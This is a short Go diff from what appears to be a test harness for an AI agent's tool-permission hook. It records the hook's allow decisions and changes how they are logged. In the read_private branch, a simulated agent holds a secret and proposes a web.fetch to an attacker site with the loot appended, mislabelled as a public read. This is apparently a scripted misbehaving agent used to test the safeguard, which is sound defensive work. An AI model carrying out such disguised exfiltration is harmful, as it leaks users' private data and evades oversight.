@@ -89,10 +89,10 @@ func (m *model) uses(tool string, input map[string]any) bool {
 	if m.Open {
 		return true
 	}
-	answer, err := m.hook(tool, input)
+	u, err := m.hook(tool, input)
 	m.err = firstError(m.err, err)
-	m.err = firstError(m.err, m.note(usedFile, used{m.trial.N, tool, answer}))
-	return answer == "allow"
+	m.err = firstError(m.err, m.note(usedFile, u))
+	return u.Answer == "allow"
 }
 
 // drafts wants mails to be laid into the person's mailbox, for the person to send.
@@ -212,6 +212,9 @@ func carryOut(w *world, g *given) error {
 		return fmt.Errorf("no start of root task %s is known", g.Identity.Root)
 	}
 	m := &model{world: w, given: g, trial: &w.Trials[n]}
+	if g.Request.Action == "read_private" && w.Reader == "honest" {
+		return nil
+	}
 	if g.Request.Action == "read_private" {
 		m.held = secret
 		m.propose("web.fetch", "read_public", nil, map[string]any{"url": attackerSite + m.loot()})
